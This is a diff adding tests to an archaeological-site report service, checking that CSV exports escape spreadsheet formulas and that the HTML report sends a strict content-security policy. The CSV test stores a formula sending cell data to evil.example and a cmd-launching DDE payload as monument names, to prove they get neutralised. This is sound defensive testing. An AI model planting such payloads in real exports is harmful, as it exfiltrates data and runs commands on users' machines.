@@ -247,6 +247,30 @@ def test_csv_keeps_arabic_names_and_a_stable_header(client, database):
     assert list(rows[0]) == CSV_COLUMNS
 
 
+def test_csv_cells_are_never_read_as_spreadsheet_formulas(client, database):
+    site_id = create_site(database)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bel")'
+    create_monument(
+        database,
+        site_id,
+        name=formula,
+        alt_names=["@SUM(1+1)*cmd|' /C calc'!A0"],
+        period="+1+2",
+        lat=-13.1631,
+        lon=-72.545,
+    )
+
+    rows = parse_csv(client.get(report_url(site_id), params={"format": "csv"}))
+
+    assert rows[0]["name"] == "'" + formula
+    assert rows[0]["alt_names"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[0]["period"] == "'+1+2"
+    # Numbers stay numbers, and other formats keep the text as it was given.
+    assert (rows[0]["lat"], rows[0]["lon"]) == ("-13.1631", "-72.545")
+    monument = client.get(report_url(site_id)).json()["monuments"][0]
+    assert monument["name"] == formula
+
+
 @pytest.mark.parametrize("role", [None, "partner"])
 def test_sensitive_positions_stay_generalised_in_every_format(client, auth, palmyra, role):
     url = report_url(palmyra["site"])
@@ -275,6 +299,17 @@ def test_html_and_pdf_are_printable_and_self_contained(client, palmyra):
     assert pdf.headers["content-type"] == "application/pdf"
     assert pdf.content.startswith(b"%PDF-")
     assert 'filename="state-of-conservation-site-' in pdf.headers["content-disposition"]
+
+
+def test_the_html_report_may_run_nothing_and_load_nothing(client, auth, palmyra):
+    api = client.get(report_url(palmyra["site"]), params={"format": "html"})
+    page = client.get(f"/ui/sites/{palmyra['site']}/report", headers=auth(None))
+
+    for response in (api, page):
+        policy = response.headers["content-security-policy"]
+        assert "default-src 'none'" in policy and "script-src" not in policy
+        assert "img-src data:" in policy and "frame-ancestors 'none'" in policy
+        assert response.headers["x-content-type-options"] == "nosniff"
 
 
 def test_unproducible_accept_is_406(client, palmyra):
